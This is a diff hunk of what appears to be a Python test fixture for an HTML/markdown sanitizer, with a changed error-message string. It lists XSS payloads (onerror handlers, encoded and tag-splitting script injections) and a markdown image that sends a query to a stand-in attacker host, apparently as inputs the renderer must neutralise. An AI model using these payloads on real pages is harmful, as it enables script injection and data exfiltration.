@@ -39,7 +39,7 @@ ACTIVE = {
     "entities": f"&lt;img src=x onerror={RUN}&gt; &#x3c;script&#x3e;{RUN}&#60;/script&#62; &amp;lt;b&amp;gt;",
     "broken tag": f"<img src=x onerror={RUN} //<scr<script>ipt>{RUN}</scr</script>ipt><<b/{RUN}>",
     "our button": '<button class="ca-chip" data-do="open_record" data-record="x" data-segment="" data-quote="">1</button>',
-    "our box": '<div class="ca-error" role="alert"><p class="ca-error-title">Something went wrong</p></div>',
+    "our box": '<div class="ca-error" role="alert"><p class="ca-error-title">The memory is broken</p></div>',
 }
 LINKS = {
     "markdown image": f"![logo]({EVIL}/pixel.png?q=QUESTION) ![a][p]\n\n[p]: {EVIL}/p.png",
